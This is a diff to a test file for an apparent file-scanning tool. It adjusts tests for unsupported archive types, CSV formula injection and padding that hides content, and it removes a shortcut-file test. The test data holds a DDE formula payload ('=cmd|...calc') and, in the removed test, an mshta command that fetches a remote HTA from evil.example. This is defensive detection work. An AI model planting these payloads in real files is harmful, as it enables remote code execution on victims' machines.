@@ -65,11 +65,10 @@ test('hands a mail back to be parsed as one, and does not read it', async () => 
   expect(content.gaps).toEqual([]);
 });
 
-test.each(['rar', '7z', 'iso', 'one', 'exe', ''])('says that it cannot open: %s', async (type) => {
+test.each(['rar', '7z', 'iso', 'exe', ''])('says that it cannot open: %s', async (type) => {
   const samples: Record<string, string> = {
     rar: '526172211a0701000000',
     '7z': '377abcaf271c0004000000000000',
-    one: 'e4525c7b8cd8a74daeb15378d02996d30000',
     exe: '4d5a90000300000004000000',
     '': '0102000304000500',
   };
@@ -124,20 +123,12 @@ describe('text', () => {
 
   test('a table whose cell starts a program is named, an ordinary sum is not', async () => {
     const bad = await look('a,b\n1,"=cmd|\'/c calc\'!A1"\n', 'list.csv');
-    expect(bad.traits).toEqual(['macro-runs-programs']);
+    expect(bad.traits).toEqual(['command-in-field']);
     expect((await look('a,b\n1,=SUM(A1:A2)\n-5|6\n', 'list.csv')).traits).toEqual([]);
   });
 
   test('padding does not hide what comes behind it in silence', async () => {
     const { gaps } = await look(`${'a '.repeat(600_000)} https://evil.example`, 'long.txt');
     expect(gaps).toMatchObject([{ why: 'too-large', blinding: true }]);
-  });
-
-  test('a shortcut shows the command that it runs', async () => {
-    const head = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
-    const command = Buffer.from('mshta https://evil.example/a.hta', 'utf16le');
-    const { content, links } = await look(Buffer.concat([head, Buffer.alloc(60), command]), 'a.lnk');
-    expect(content).toContain('mshta');
-    expect(links.map((link) => link.url)).toEqual(['https://evil.example/a.hta']);
   });
 });
